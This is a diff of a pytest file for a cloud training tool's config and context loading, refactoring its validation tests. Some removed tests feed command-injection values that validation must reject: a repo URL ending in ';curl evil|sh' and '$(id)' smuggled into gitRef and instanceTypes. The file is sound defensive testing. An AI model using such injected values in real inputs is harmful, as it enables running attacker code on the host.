@@ -1,25 +1,24 @@
-"""Config validation: every bad value fails with one line naming the key, the value and what is allowed."""
+"""core/settings.py: every bad value fails with one line naming the key, the value and what is allowed; the
+defaults are cdk.json's; the one context loader (cdk.json + -c key=value)."""
 
 from __future__ import annotations
 
 import json
-import subprocess
-import sys
 from pathlib import Path
 from typing import Any
 
 import pytest
 
-from stacks.config import DEFAULTS, RunConfig, check_deploy, main, to_https
+from training.cloud.core.settings import DEFAULTS, RunConfig, cdk_context_args, load_context
 from training.errors import ConfigError
 
-ROOT = Path(__file__).resolve().parents[2]
+ROOT = Path(__file__).resolve().parents[4]
 GOOD: dict[str, Any] = {"repoUrl": "https://git.example.com/team/spotgrade.git"}
 
 
 def load(**overrides: Any) -> RunConfig:
     context = {**GOOD, **overrides}
-    return RunConfig.from_context(context.get, repo_dir=None)
+    return RunConfig.from_context(context.get)
 
 
 BAD_VALUES = [
@@ -91,8 +90,7 @@ def test_defaults_give_a_valid_config_and_match_cdk_json() -> None:
     assert config.data_uri == "" and config.data_location is None
     assert config.asg_name == "Spotgrade-default" and config.run_prefix == "runs/default/"
     context = json.loads((ROOT / "cdk.json").read_text())["context"]
-    assert {k: context[k] for k in DEFAULTS} == DEFAULTS
-    assert context["cli-telemetry"] is False
+    assert context == {**DEFAULTS, "cli-telemetry": False}  # every key, and nothing else
 
 
 def test_cli_strings_are_parsed() -> None:
@@ -125,65 +123,56 @@ def test_checkpoint_expiry_must_outlast_the_run() -> None:
     assert load(maxRuntimeHours=72, checkpointExpiryDays=4).checkpoint_expiry_days == 4
 
 
-@pytest.mark.parametrize(("remote", "https"), [
-    ("git@github.example:owner/repo.git", "https://github.example/owner/repo.git"),
-    ("ssh://git@git.example.com:2222/owner/repo.git", "https://git.example.com/owner/repo.git"),
-    ("https://user:secret@git.example.com/owner/repo.git", "https://git.example.com/owner/repo.git"),
-    ("https://git.example.com:8443/owner/repo", "https://git.example.com:8443/owner/repo"),
-    ("/srv/git/repo.git", None),
-])
-def test_remote_to_https(remote: str, https: str | None) -> None:
-    assert to_https(remote) == https
+def test_a_value_with_a_trailing_line_break_is_refused() -> None:
+    """Patterns match the whole value (a `$` anchor let "exp-7\\n" through before)."""
+    for key, value in (("runId", "exp-7\n"), ("gitRef", "main\n"), ("stackName", "Spotgrade\n")):
+        with pytest.raises(ConfigError, match=f"context key '{key}'"):
+            load(**{key: value})
 
 
-def _git_repo(path: Path, origin: str | None) -> Path:
-    subprocess.run(["git", "init", "-q", str(path)], check=True)
-    if origin:
-        subprocess.run(["git", "-C", str(path), "remote", "add", "origin", origin], check=True)
-    (path / "cdk.json").write_text((ROOT / "cdk.json").read_text())
-    return path
+def test_the_default_repo_url_is_asked_only_without_one() -> None:
+    asked = []
+
+    def origin() -> str:
+        asked.append(1)
+        return "https://git.example.com/team/origin.git"
+
+    assert RunConfig.from_context({}.get, default_repo_url=origin).repo_url == "https://git.example.com/team/origin.git"
+    assert RunConfig.from_context(GOOD.get, default_repo_url=origin).repo_url == GOOD["repoUrl"]
+    assert RunConfig.from_context({}.get).repo_url is None and len(asked) == 1
 
 
-def test_repo_url_defaults_to_origin_as_https(tmp_path: Path) -> None:
-    repo = _git_repo(tmp_path, "git@git.example.com:team/spotgrade.git")
-    config = RunConfig.from_context({}.get, repo_dir=repo)
-    assert config.repo_url == "https://git.example.com/team/spotgrade.git"
+def test_run_keys_come_from_the_layout() -> None:
+    config = load(runId="exp-7")
+    assert config.keys.run_id == "exp-7" and config.run_prefix == config.keys.prefix == "runs/exp-7/"
 
 
-def test_check_deploy_refuses_without_repo_url(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
-    repo = _git_repo(tmp_path, None)
-    with pytest.raises(ConfigError, match=r"no repoUrl.*-c repoUrl="):
-        check_deploy([], repo_dir=repo)
-    config = check_deploy(["--require-approval", "never", "-c", "repoUrl=https://h.example/o/r.git",
-                           "--context=runId=r2"], repo_dir=repo)
-    assert (config.repo_url, config.run_id) == ("https://h.example/o/r.git", "r2")
-    with pytest.raises(ConfigError, match="gitRef"):
-        check_deploy(["-c", "repoUrl=https://h.example/o/r.git", "-c", "gitRef=$(id)"], repo_dir=repo)
+# ---------------------------------------------------------------- the context loader
+
+def test_load_context_overlays_defaults_cdk_json_and_overrides(tmp_path: Path) -> None:
+    cdk_json = tmp_path / "cdk.json"
+    cdk_json.write_text(json.dumps({"app": "python3 app.py", "context": {"maxRuntimeHours": 6, "runId": "r1"}}))
+    context = load_context(["maxRuntimeHours=4", " gitRef =v2"], cdk_json)
+    assert (context["maxRuntimeHours"], context["runId"], context["gitRef"]) == ("4", "r1", "v2")
+    assert context["stackName"] == DEFAULTS["stackName"]
+    assert load_context([], None) == DEFAULTS
+    assert load_context([], tmp_path / "missing.json") == DEFAULTS
 
 
-def test_check_deploy_cli_exit_status(tmp_path: Path) -> None:
-    ok = subprocess.run([sys.executable, "-m", "stacks.config", "--check-deploy", "-c",
-                         "repoUrl=https://h.example/o/r.git"], cwd=ROOT, capture_output=True, text=True)
-    assert ok.returncode == 0, ok.stderr
-    bad = subprocess.run([sys.executable, "-m", "stacks.config", "--check-deploy", "-c", "capacity=cheap"],
-                         cwd=ROOT, capture_output=True, text=True)
-    assert bad.returncode == 2
-    assert bad.stderr.startswith("error: context key 'capacity'") and bad.stderr.count("\n") == 1
-    assert main([]) == 2
+def test_load_context_errors(tmp_path: Path) -> None:
+    with pytest.raises(ConfigError, match="expected key=value"):
+        load_context(["maxRuntimeHours"], None)
+    with pytest.raises(ConfigError, match="expected key=value"):
+        load_context(["=4"], None)
+    bad = tmp_path / "cdk.json"
+    bad.write_text("{")
+    with pytest.raises(ConfigError, match="not valid JSON"):
+        load_context([], bad)
 
 
-def test_bad_value_fails_synth_through_the_app() -> None:
-    from stacks.spotgrade_stack import build_app
-
-    with pytest.raises(ConfigError, match="context key 'repoUrl'"):
-        build_app({"repoUrl": "https://x/y.git;curl evil|sh"}, repo_dir=None)
-
-
-def test_app_py_exits_2_with_one_line(tmp_path: Path) -> None:
-    context = json.dumps({"instanceTypes": "p3.2xlarge,$(id)"})
-    done = subprocess.run([sys.executable, "app.py"], cwd=ROOT, capture_output=True, text=True,
-                          env={"PATH": "/usr/bin:/bin", "CDK_CONTEXT_JSON": context,
-                               "CDK_OUTDIR": str(tmp_path), "JSII_SILENCE_WARNING_END_OF_LIFE_NODE_VERSION": "20"})
-    assert done.returncode == 2
-    assert done.stderr.startswith("error: context key 'instanceTypes': '$(id)' is not allowed; expected ")
-    assert done.stderr.count("\n") == 1 and "Traceback" not in done.stderr
+def test_cdk_context_args_picks_every_context_form() -> None:
+    args = ["--require-approval", "never", "-c", "repoUrl=https://h.example/o/r.git", "--context=runId=r2",
+            "-cgitRef=v1", "--context", "capacity=spot", "Spotgrade"]
+    assert cdk_context_args(args) == ["repoUrl=https://h.example/o/r.git", "runId=r2", "gitRef=v1",
+                                      "capacity=spot"]
+    assert cdk_context_args(["-c"]) == [""]
